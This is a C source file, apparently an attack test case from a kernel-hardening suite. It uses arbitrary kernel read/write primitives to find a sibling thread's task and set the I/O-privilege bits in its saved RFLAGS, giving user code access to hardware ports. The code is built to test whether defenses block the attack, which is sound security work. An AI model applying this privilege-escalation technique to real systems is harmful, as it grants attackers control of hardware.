// SPDX-License-Identifier: GPL-2.0-only
#include "registers.h"
#include "thread.h"

ATTACK("shadow_stack", "own_segments", "LOST",
       "While a thread is in a call, another one of the same program, whose page tables show "
       "them, writes to its registers: the flags that give a program the machine's ports.",
       "On the way out segments and flags are made those of a program, whatever is there.",
       "The program may use the ports of all devices.");

#define PORTS 0x3000 /* in the flags: privilege level 3 */

static volatile uint32_t reader_id;
static volatile bool returned;

static bool control(void)
{
	return is_ordinary();
}

static inline unsigned long flags_now(void)
{
	unsigned long flags;

	__asm__ volatile("pushfq; popq %0" : "=r"(flags));
	return flags;
}

static void sleep_and_see(void)
{
	reader_id = (uint32_t)call0(__NR_gettid);
	sleep_milliseconds(300);
	returned = true;
	if ((flags_now() & PORTS) == PORTS) {
		__asm__ volatile("cli; sti");
		say_result("WON");
	}
	for (;;)
		sleep_milliseconds(1000);
}

/* The other thread's task: linked with this one's in their process. */
static uint64_t other_thread(uint64_t task)
{
	const uint64_t link = member("task.thread_link"),
		       head = peek(task + member("task.process")) + member("process.threads");

	for (uint64_t at = peek(head); at != head; at = peek(at))
		if (peek32(at - link + member("task.id")) == reader_id)
			return at - link;
	return 0;
}

static bool fire(void)
{
	const uint64_t task = own_task();
	uint64_t flags;

	start_thread(sleep_and_see);
	while (!reader_id)
		sleep_milliseconds(10);
	sleep_milliseconds(100);
	flags = registers_end(other_thread(task)) - member("arch_frame.SIZE") +
		member("arch_frame.rflags");
	poke(flags, peek(flags) | PORTS);
	while (!returned)
		sleep_milliseconds(50);
	sleep_milliseconds(100);
	return false;
}

static void victim(void)
{
	victim_waits();
}
